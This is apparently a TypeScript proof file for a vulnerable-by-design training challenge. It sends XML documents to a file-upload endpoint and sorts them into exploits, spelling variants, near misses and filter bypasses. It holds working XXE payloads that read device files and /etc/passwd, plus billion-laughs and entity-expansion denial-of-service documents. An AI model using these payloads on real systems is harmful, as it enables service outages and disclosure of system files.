import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

function send(attacker: Attacker, document: string | Uint8Array<ArrayBuffer>, name = 'order.xml', field = 'file') {
  const form = new FormData()
  form.append(field, new Blob([document], { type: 'application/xml' }), name)
  return attacker.post('/file-upload', form, { headers: { accept: 'application/json' } })
}

const sending =
  (document: string | Uint8Array<ArrayBuffer>, name?: string): Attack =>
  (attacker) =>
    send(attacker, document, name)

/** An order with an external entity from a URL. */
const orderWith = (address: string) => `<!DOCTYPE order [<!ENTITY xxe SYSTEM "${address}">]><order>&xxe;</order>`

/** An order that expands one entity many times. */
const repeating = (text: string, times: number) =>
  `<!DOCTYPE order [<!ENTITY dos "${text}">]><order>${'&dos;'.repeat(times)}</order>`

/** In UTF-16 with its byte order mark. */
const inUtf16 = (text: string) => new Uint8Array(Buffer.from(`\uFEFF${text}`, 'utf16le'))

/** Each entity expands the previous one ten times. */
const LAUGHS = `<!DOCTYPE order [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]><order>&l9;</order>`
const ENDLESS = orderWith('file:///dev/random')

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await send(attacker, '<!DOCTYPE order [<!ENTITY mine "twelve bottles">]><order>&mine;</order>')
    // The parser refuses nested entities, but not one long entity expanded many times.
    await send(attacker, LAUGHS)
    await send(attacker, repeating('dos'.repeat(15_000), 9000))
  },
  spellings: {
    'a device that never ends': sending(ENDLESS),
    'another device': sending(orderWith('file:///dev/urandom')),
    zeros: sending(orderWith('file:///dev/zero')),
    'the path of a device alone': sending(orderWith('/dev/random')),
    'steps up to a device': sending(orderWith('../../../../dev/zero')),
    'a device in percent signs': sending(orderWith('file:///dev/%72andom')),
    'an entity for declarations': sending(
      '<!DOCTYPE order [<!ENTITY % more SYSTEM "file:///dev/random">%more;]><order/>',
    ),
    'the description of the document': sending('<!DOCTYPE order SYSTEM "file:///dev/random"><order/>'),
    'with a public name': sending('<!DOCTYPE order PUBLIC "-//A//B" "file:///dev/random"><order/>'),
    'in another encoding': sending(inUtf16(ENDLESS)),
    'elements instead of letters': sending(repeating('<a/>'.repeat(9000), 9000)),
    'in the value of an attribute': sending(
      `<!DOCTYPE order [<!ENTITY dos "${'x'.repeat(45_000)}">]><order a="${'&dos;'.repeat(3500)}"/>`,
    ),
    'a shorter text': sending(repeating('x'.repeat(9000), 900)),
    'as a name in capitals': sending(ENDLESS, 'ORDER.XML'),
  },
  nearMisses: {
    'an ordinary order': sending('<order><line product="1" quantity="12"/></order>'),
    'an entity of the order itself': sending(repeating('twelve bottles', 12)),
    'entities of entities, which the parser refuses': sending(LAUGHS),
    'a long order': sending(`<order>${'<line product="1" quantity="12"/>'.repeat(2500)}</order>`),
    'values that nobody wrote, which nobody copies': sending(
      `<!DOCTYPE order [<!ATTLIST a b CDATA "${'x'.repeat(45_000)}">]><order>${'<a/>'.repeat(9000)}</order>`,
    ),
    'a file that ends': sending(orderWith('file:///etc/passwd')),
    'a device that ends at once': sending(orderWith('file:///dev/null')),
    'a device that is not there': sending(orderWith('file:///dev/randomly')),
    'a device that is declared but not used': sending(ENDLESS.replace('&xxe;', 'nothing')),
    'a device at an address of the web': sending(orderWith('http://localhost/dev/random')),
    'a ring of entities': sending('<!DOCTYPE o [<!ENTITY a "&b;"><!ENTITY b "&a;">]><o>&a;</o>'),
    'more files than anybody needs': sending(
      `<!DOCTYPE o [${Array.from({ length: 40 }, (_, i) => `<!ENTITY e${i} SYSTEM "/ftp/${i}">`).join('')}]><o>${Array.from({ length: 40 }, (_, i) => `&e${i};`).join('')}</o>`,
    ),
    'something that is no XML': sending('<order>'),
    'the document as an invoice': sending(ENDLESS, 'order.pdf'),
    'the document as YAML': sending(ENDLESS, 'order.yml'),
    'the document in a field that nobody reads': (attacker) => send(attacker, ENDLESS, 'order.xml', 'order'),
    'the document, far too large': sending(ENDLESS + ' '.repeat(200_000)),
  },
  bypasses: {
    'refuse-the-word-entity': sending('<!DOCTYPE order SYSTEM "file:///dev/random"><order/>'),
    'count-the-references': sending(ENDLESS),
  },
})
